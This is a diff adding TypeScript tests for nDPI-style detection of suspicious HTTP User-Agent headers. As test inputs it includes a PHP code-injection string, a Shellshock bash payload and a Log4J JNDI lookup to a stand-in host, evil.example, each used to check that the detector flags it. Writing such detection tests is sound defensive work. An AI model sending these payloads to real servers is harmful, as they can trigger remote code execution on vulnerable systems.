@@ -178,3 +178,45 @@ describe('Clear-Text Credentials', () => {
     expect(await creds(80, req('Bearer eyJhbGciOiJIUzI1NiJ9.e30.x'), [true])).toBe(false);
   });
 });
+
+// nDPI's User-Agent checks (ndpi_check_user_agent in its http.c), each with a near miss.
+describe('HTTP Susp User-Agent', () => {
+  const SUSP = 'HTTP Susp User-Agent', EXPLOIT = 'Possible Exploit Attempt';
+  const risks = async (ua: string | null) =>
+    (await flow('tcp', 80, [txt(`GET / HTTP/1.1\r\nHost: example.com\r\n${ua === null ? '' : `User-Agent: ${ua}\r\n`}Accept: */*\r\n\r\n`)], [true])).risks;
+  const susp = async (ua: string | null) => (await risks(ua)).includes(SUSP);
+
+  it('missing or empty; a common agent is fine', async () => {
+    expect(await susp(null)).toBe(true);
+    expect(await susp('')).toBe(true);
+    expect(await susp('Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0')).toBe(false);
+  });
+
+  it('over 12 characters, letters only, a fifth or more capitals; not 12, not fewer capitals, not with a non-letter', async () => {
+    expect(await susp('ABCDEFGHIJKLMN')).toBe(true); // 14 letters, all capitals
+    expect(await susp('AbcDefghijklmnopq')).toBe(false); // 2 of 17 capitals: under a fifth
+    expect(await susp('ABCDEFGHIJKL')).toBe(false); // 12: not over 12
+    expect(await susp('ABCDEFG-HIJKLMN')).toBe(false); // a non-letter
+  });
+
+  it('"<?" first or a "$" anywhere; "://" after something else than p or s; short, long, "test", braces', async () => {
+    expect(await susp('<?php system() ?>')).toBe(true);
+    expect(await susp('agent$x/1.0')).toBe(true);
+    expect(await susp('bot mailto://x')).toBe(true);
+    expect(await susp('bot (+https://example.com/bot)')).toBe(false);
+    expect(await susp('abc')).toBe(true);
+    expect(await susp('abcd')).toBe(false);
+    expect(await susp(`a/${'x'.repeat(255)}`)).toBe(true); // 257 characters
+    expect(await susp(`a/${'x'.repeat(254)}`)).toBe(false); // 256
+    expect(await susp('test-client/1.0')).toBe(true);
+    expect(await susp('client-test/1.0')).toBe(false);
+    expect(await susp('() { :; }; /bin/bash')).toBe(true);
+  });
+
+  it('"jndi:ldap://" first is a possible exploit (Log4J), not a suspicious agent', async () => {
+    const r = await risks('jndi:ldap://evil.example/a');
+    expect(r).toContain(EXPLOIT);
+    expect(r).not.toContain(SUSP);
+    expect(await risks('x jndi:ldap://evil.example/a')).not.toContain(EXPLOIT);
+  });
+});
